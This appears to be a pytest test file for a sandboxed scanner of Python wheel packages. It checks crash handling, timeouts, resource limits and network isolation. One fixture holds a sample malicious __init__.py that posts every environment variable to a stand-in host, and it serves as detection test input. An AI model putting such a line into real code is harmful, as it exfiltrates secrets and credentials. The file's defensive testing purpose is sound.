"""The confined scanning process: whatever happens to it, the caller has a report, and the next scan works."""

from __future__ import annotations

import os
import signal
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.scan import a_wheel
from wheelmark.errors import Unavailable
from wheelmark.scan import IsolatedScanner, Report, Verdict, WorkerLimits, isolated

TOLD = Path("/proc/self/status").exists()  # elsewhere nobody tells the memory of another process
HELLO = "import sys, json\nprint(json.dumps({'ready': 'test', 'without_network': False}), flush=True)\n"
MALICIOUS = {
    "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
}


@pytest.fixture
def wheel(tmp_path: Path) -> Path:
    path = tmp_path / "widget-1-py3-none-any.whl"
    path.write_bytes(a_wheel({"widget/__init__.py": "VERSION = 1\n"}))
    return path


@pytest.fixture(scope="module")
def scanner() -> Iterator[IsolatedScanner]:
    with IsolatedScanner() as scanner:
        yield scanner


def stand_in(behaviour: str, limits: WorkerLimits | None = None) -> IsolatedScanner:
    """A scanner whose child says hello and then does this."""
    return IsolatedScanner(limits, command=[sys.executable, "-c", HELLO + behaviour])


def test_report_of_child_equals_report_of_its_file(scanner: IsolatedScanner, tmp_path: Path) -> None:
    path = tmp_path / "widget-1-py3-none-any.whl"
    path.write_bytes(a_wheel(MALICIOUS))
    report = scanner.scan(path)
    assert report.verdict is Verdict.MALICIOUS
    assert report.findings[0].context is not None
    assert report.file == path.name


def test_one_child_serves_many_scans(scanner: IsolatedScanner, wheel: Path) -> None:
    scanner.scan(wheel)
    first = scanner.process_id
    assert scanner.scan(wheel, "other-1-py3-none-any.whl").file == "other-1-py3-none-any.whl"
    assert scanner.process_id == first


def test_child_is_replaced_after_its_share_of_scans(wheel: Path) -> None:
    with IsolatedScanner(WorkerLimits(scans_per_process=1)) as scanner:
        assert scanner.scan(wheel).verdict is Verdict.BENIGN
        assert scanner.process_id is None
        assert scanner.scan(wheel).verdict is Verdict.BENIGN


def test_child_is_replaced_after_a_scan_that_took_much_memory(wheel: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    limit = WorkerLimits().replaced_above
    with IsolatedScanner() as scanner:
        monkeypatch.setattr(isolated, "_peak_bytes", lambda _: limit)
        scanner.scan(wheel)
        before = scanner.process_id
        monkeypatch.setattr(isolated, "_peak_bytes", lambda _: limit + 1)
        assert scanner.scan(wheel).verdict is Verdict.BENIGN
        assert (before is not None, scanner.process_id) == (True, None)
        assert scanner.peak_bytes == limit + 1
        assert scanner.scan(wheel).verdict is Verdict.BENIGN


def test_memory_of_the_child_is_its_own(scanner: IsolatedScanner, wheel: Path) -> None:
    scanner.scan(wheel)
    if TOLD:
        assert 20e6 < scanner.peak_bytes < 300e6
    else:
        assert scanner.peak_bytes == 0


def test_killed_child_gives_incomplete_and_next_scan_works(wheel: Path) -> None:
    with IsolatedScanner() as scanner:
        scanner.scan(wheel)
        assert scanner.process_id is not None
        os.kill(scanner.process_id, signal.SIGSTOP)  # it now cannot answer, as if it hung in the file
        scanner._limits = WorkerLimits(wall_seconds=0.2)
        report = scanner.scan(wheel)
        assert report.verdict is Verdict.INCOMPLETE
        assert report.incomplete_reason == "timed out after 0.2 s"
        assert len(report.sha256) == 64
        scanner._limits = WorkerLimits()
        assert scanner.scan(wheel).verdict is Verdict.BENIGN


@pytest.mark.parametrize(
    ("behaviour", "reason"),
    [
        ("sys.stdin.readline(); sys.exit(3)", "the scanning process ended with status 3"),
        ("import os; sys.stdin.readline(); os.kill(os.getpid(), 9)", "the scanning process was ended by SIGKILL"),
        ("import os; sys.stdin.readline(); os.kill(os.getpid(), 24)", "used more than 60 s of CPU time"),
        (
            "sys.stdin.readline(); print('gibberish', flush=True); sys.stdin.read()",
            "the scanning process gave no report",
        ),
        ("sys.stdin.readline(); print('[]', flush=True); sys.stdin.read()", "the scanning process gave no report"),
        (
            "sys.stdin.readline(); print('{}\\n{}', flush=True); sys.stdin.read()",
            "the scanning process said more than one report",
        ),
        (
            "sys.stdin.readline(); print('x' * 5_000_000, flush=True)",
            "expected a report of at most 4194304 bytes, got more",
        ),
    ],
)
def test_misbehaving_child_gives_incomplete_with_the_reason(wheel: Path, behaviour: str, reason: str) -> None:
    with stand_in(behaviour) as scanner:
        report = scanner.scan(wheel)
    assert report.verdict is Verdict.INCOMPLETE
    assert report.incomplete_reason == reason
    assert report.file == wheel.name


def test_report_on_another_file_is_not_believed(wheel: Path) -> None:
    lie = (
        "sys.stdin.readline()\n"
        "print(json.dumps({'file': 'other.whl', 'sha256': '0' * 64, 'verdict': 'benign', 'score': 0, 'findings': [], "
        "'elapsed_ms': 1, 'ruleset': 'test'}), flush=True)\nsys.stdin.read()"
    )
    with stand_in(lie) as scanner:
        report = scanner.scan(wheel)
    assert report.verdict is Verdict.INCOMPLETE
    assert report.incomplete_reason == "the scanning process reported on something else"


def test_child_that_never_gets_ready_is_unavailable_not_a_verdict(wheel: Path) -> None:
    scanner = IsolatedScanner(command=[sys.executable, "-c", "import sys; sys.exit(1)"])
    with pytest.raises(Unavailable, match="expected a scanning process to get ready, got"):
        scanner.scan(wheel)


def test_file_that_cannot_be_read_gives_incomplete(scanner: IsolatedScanner, tmp_path: Path) -> None:
    report = scanner.scan(tmp_path / "missing-1-py3-none-any.whl")
    assert report.verdict is Verdict.INCOMPLETE
    assert report.incomplete_reason == "unreadable: No such file or directory"
    assert report.sha256 == ""


def test_child_can_write_no_file_and_sees_none_of_our_secrets(wheel: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WHEELMARK_SECRET_KEY", "for us alone")
    with IsolatedScanner() as scanner:
        scanner.scan(wheel)
        process = Path(f"/proc/{scanner.process_id}")
        if not process.exists():
            pytest.skip("this system has no /proc to look at the child with")
        assert b"WHEELMARK_SECRET_KEY" not in (process / "environ").read_bytes()
        limits = {line[:26].strip(): line[26:].split()[0] for line in (process / "limits").read_text().splitlines()[1:]}
        assert limits["Max file size"] == "0"
        assert limits["Max core file size"] == "0"
        assert limits["Max open files"] == str(WorkerLimits().open_files)
        assert int(limits["Max address space"]) == WorkerLimits().address_space
        resident = next(line for line in (process / "status").read_text().splitlines() if line.startswith("VmHWM"))
        assert int(resident.split()[1]) < 60 * 1024


def test_child_has_no_network_where_the_kernel_permits(wheel: Path) -> None:
    with IsolatedScanner() as scanner:
        scanner.scan(wheel)
        own = Path("/proc/self/ns/net")
        if not own.exists() or not scanner.without_network:
            pytest.skip("this kernel permits no network namespace here")
        assert Path(f"/proc/{scanner.process_id}/ns/net").readlink() != own.readlink()


def test_child_dies_with_the_scanner(wheel: Path) -> None:
    scanner = IsolatedScanner()
    scanner.scan(wheel)
    process_id = scanner.process_id
    assert process_id is not None
    scanner.close()
    with pytest.raises(ProcessLookupError):
        os.kill(process_id, 0)


def test_child_that_ran_out_of_memory_is_replaced_before_the_next_file(wheel: Path) -> None:
    """It says so and then ends: a file that is asked for in between must not meet it on its way out."""
    out_of_memory = (
        "name = json.loads(sys.stdin.readline())['name']\n"
        "print(json.dumps({'file': name, 'sha256': '0' * 64, 'verdict': 'incomplete', 'score': 0, 'findings': [], "
        "'elapsed_ms': 1, 'ruleset': 'test', 'incomplete_reason': 'out of memory'}), flush=True)\nsys.stdin.read()"
    )
    with stand_in(out_of_memory) as scanner:
        assert scanner.scan(wheel).incomplete_reason == "out of memory"
        assert scanner.process_id is None


def test_file_whose_name_is_no_text_is_scanned(scanner: IsolatedScanner, wheel: Path) -> None:
    odd = wheel.with_name(os.fsdecode(b"widget-\xff-1-py3-none-any.whl"))
    odd.write_bytes(wheel.read_bytes())
    report = scanner.scan(odd)
    assert (report.verdict, report.file) == (Verdict.BENIGN, "widget-?-1-py3-none-any.whl")
    assert Report.from_json(report.to_json(with_context=True)) == report
